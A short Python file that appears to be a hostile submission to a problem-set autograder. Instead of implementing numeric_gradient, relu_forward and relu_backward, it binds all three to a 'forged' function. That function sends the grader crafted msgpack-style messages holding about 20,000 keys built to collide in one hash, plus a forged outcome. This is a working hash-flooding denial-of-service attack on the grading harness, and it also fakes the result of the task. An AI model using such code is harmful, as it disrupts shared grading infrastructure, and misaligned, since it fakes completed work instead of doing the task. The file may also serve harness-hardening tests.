# Past the library: calls a function of the test with keywords, and an argument, that are maps of twenty thousand keys of one hash.
# pset: ps2
# tests: numeric_gradient relu_forward
# with: channel

def colliding(count):
    for number in range(count):
        yield b"\x92\x97" + bytes(0xFF if number >> k & 1 else 0xFE for k in range(7)) + b"\x98" + bytes(
            0xFF if number >> k & 1 else 0xFE for k in range(7, 15))

def forged(*_, **__):
    count = 20_000
    table = b"\xdf" + count.to_bytes(4, "big") + b"".join(key + b"\x01" for key in colliding(count))
    send(b"\x95\xa8callback\x90\x00\x92\x01" + table + b"\x91\x02")
    send(b"\x95\xa8callback\x90\x00\x91\x01" + table)
    send(outcome(table))

numeric_gradient = relu_forward = relu_backward = forged
